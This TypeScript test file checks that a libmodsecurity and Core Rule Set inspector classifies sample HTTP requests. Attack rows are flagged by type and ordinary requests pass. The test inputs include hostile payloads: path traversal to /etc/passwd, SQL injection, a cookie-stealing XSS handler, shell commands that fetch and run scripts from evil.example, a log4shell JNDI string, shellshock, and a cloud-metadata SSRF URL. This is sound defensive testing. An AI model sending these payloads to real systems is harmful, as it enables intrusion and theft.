// Requests through the real libmodsecurity and CRS.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test from 'ava';
import { decodeBatch } from '../exchange.ts';
import { browserHeaders, encodeBatch, type SampleRequest } from '../fake/batch.ts';
import { crsFolder } from '../fake/processor.ts';
import { loadInspector } from '../modsecurity/modsecurity.ts';
import { assembleRules } from '../rules/folder.ts';
import { locate } from './locate.ts';
import { transactionOf } from './transaction.ts';
import { verdictOf } from './verdict.ts';

const threshold = 5;
// biome-ignore lint/suspicious/noTemplateCurlyInString: this is what attackers send
const log4shell = '${jndi:ldap://evil.example/a}';
const folder = mkdtempSync(join(tmpdir(), 'podmirror-rules-'));
test.after.always(() => rmSync(folder, { recursive: true }));
const inspector = loadInspector(assembleRules({ crsFolder: crsFolder(), folder, paranoia: 1, threshold }));

function inspect(sample: SampleRequest) {
  const exchange = decodeBatch(encodeBatch([sample])).exchanges[0];
  if (!exchange) throw new Error('no exchange');
  const matches = inspector.inspect(transactionOf(exchange, { maxBodyBytes: 65_536, maxArguments: 100 }));
  const verdict = verdictOf(matches, threshold);
  return { exchange, verdict, matches };
}

const form = (body: string): SampleRequest => ({
  method: 'POST',
  target: '/form',
  headers: [
    ...browserHeaders,
    ['Content-Type', 'application/x-www-form-urlencoded'],
    ['Content-Length', String(body.length)],
  ],
  body,
});
const json = (body: string, type = 'application/json'): SampleRequest => ({
  method: 'POST',
  target: '/api/items',
  headers: [...browserHeaders, ['Content-Type', type], ['Content-Length', String(body.length)]],
  body,
});
const withHeader = (name: string, value: string): SampleRequest => ({
  headers: [...browserHeaders, [name, value]],
});

type Row = [title: string, sample: SampleRequest, type: string | undefined, marked?: string];

const attacks: Row[] = [
  ['a system file in the path', { target: '/etc/passwd', status: 404 }, 'path_traversal', 'etc/passwd'],
  [
    'a system file in the path, asked by curl at an address',
    {
      target: '/etc/passwd',
      headers: [
        ['Host', '127.0.0.1:8080'],
        ['User-Agent', 'curl/7.88.1'],
        ['Accept', '*/*'],
      ],
    },
    'path_traversal',
    'etc/passwd',
  ],
  [
    'a system file in an absolute target',
    { target: 'http://shop.example/etc/passwd' },
    'path_traversal',
    'etc/passwd',
  ],
  [
    'a system file in a path encoded twice',
    { target: '/%2565tc/passwd' },
    'path_traversal',
    '%2565tc/passwd',
  ],
  ['climbing in the path', { target: '/static/..%2f..%2f..%2fetc/passwd' }, 'path_traversal'],
  ['climbing in an argument', { target: '/view?file=../../../../etc/passwd' }, 'path_traversal'],
  ['a system file in an argument', { target: '/view?file=/etc/passwd' }, 'path_traversal', 'etc/passwd'],
  ['a tautology in an argument', { target: "/items?id=1'+or+1=1--+" }, 'sqli', "1'+or+1=1--+"],
  ['a union in a form', form("name=x' UNION SELECT user, password FROM users--"), 'sqli'],
  ['a sleep in JSON', json('{"id":"1 AND SLEEP(5)"}'), 'sqli'],
  ['a statement in JSON of a vendor type', json(`{"id":"1' or '1'='1"}`, 'application/vnd.api+json'), 'sqli'],
  ['a script in an argument', { target: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' }, 'xss'],
  ['an event handler in a form', form('comment=<img src=x onerror=alert(document.cookie)>'), 'xss'],
  ['a command in an argument', { target: '/ping?host=127.0.0.1;wget%20http://evil.example/x.sh' }, 'rce'],
  ['a command substitution in a form', form('host=$(curl http://evil.example/|sh)'), 'rce'],
  [
    'log4shell in a header',
    {
      headers: [...browserHeaders.filter(([name]) => name !== 'User-Agent'), ['User-Agent', log4shell]],
    },
    'rce',
    log4shell,
  ],
  ['shellshock in a header', withHeader('Referer', '() { :;}; /bin/bash -c "id"'), 'rce'],
  ['PHP code in an argument', { target: '/?x=<?php+phpinfo();?>' }, 'php_injection'],
  [
    'a cloud metadata address in an argument',
    { target: '/fetch?url=http://169.254.169.254/latest/meta-data/' },
    'ssrf',
  ],
  [
    'a scanner by its name',
    {
      headers: [
        ['Host', 'shop.example'],
        ['User-Agent', 'sqlmap/1.7'],
        ['Accept', '*/*'],
      ],
    },
    'scanner',
  ],
];

for (const [title, sample, type, marked] of attacks) {
  test(`${title} is ${type}`, (t) => {
    const { exchange, verdict } = inspect(sample);
    t.is(verdict?.type, type as never);
    if (!verdict || marked === undefined) return;
    const mark = locate(exchange, verdict.deciding);
    const { target, headers, body } = exchange.request;
    const text =
      mark?.where === 'header' ? headers[mark.header]?.value : mark?.where === 'body' ? body : target;
    t.is(text?.slice(mark?.start, mark?.end), marked);
  });
}

const ordinary: Row[] = [
  ['a page', { target: '/' }, undefined],
  ['a page that is not there', { target: '/missing', status: 404 }, undefined],
  ['a search', { target: '/search?q=blue+shoes&sort=price&page=2' }, undefined],
  ['a style sheet with a version', { target: '/assets/app.3f2c1.css?v=12' }, undefined],
  [
    'curl at an address',
    {
      headers: [
        ['Host', '127.0.0.1:8080'],
        ['User-Agent', 'curl/7.88.1'],
        ['Accept', '*/*'],
      ],
    },
    undefined,
  ],
  ['a request with nothing but a Host', { headers: [['Host', '10.0.0.2']] }, undefined],
  ['a login', form('user=anna&password=correct+horse+battery+staple'), undefined],
  ['JSON', json('{"items":[{"id":1,"name":"Schöne Schuhe"}],"note":"please ring twice"}'), undefined],
  ['an update', { ...json('{"name":"x"}'), method: 'PUT' }, undefined],
  ['a removal', { method: 'DELETE', target: '/api/items/7' }, undefined],
  [
    'a probe of a health endpoint',
    {
      target: '/healthz',
      headers: [
        ['Host', '10.1.2.3'],
        ['User-Agent', 'kube-probe/1.30'],
      ],
    },
    undefined,
  ],
  ['a name with an apostrophe', { target: "/people?name=O'Brien" }, undefined],
];

for (const [title, sample] of ordinary) {
  test(`${title} is no attack`, (t) => {
    const { verdict, matches } = inspect(sample);
    t.is(verdict, undefined, JSON.stringify(matches));
  });
}

test('a client cannot forge a rule in the log of libmodsecurity', (t) => {
  const forged =
    '"] [file "x"] [line "1"] [id "941100"] [msg "forged"] [severity "2"] [tag "attack-xss"] [hostname "x';
  const { verdict } = inspect({
    target: `/${forged.replaceAll(' ', '%20')}?${encodeURIComponent(forged)}=/etc/passwd`,
  });
  t.is(verdict?.type, 'path_traversal');
  t.false(verdict?.matches.some(({ id }) => id === 941_100));
});

test('bytes that are no text do not stop an inspection', (t) => {
  const every = Array.from({ length: 256 }, (_, code) => String.fromCharCode(code)).join('');
  t.notThrows(() => inspect({ method: every, target: every, headers: [[every, every]], body: every }));
});

test('a rules file that is wrong is named with the reason', (t) => {
  t.throws(() => loadInspector([join(folder, 'none.conf')]), { message: /^load rules .*none\.conf: / });
});
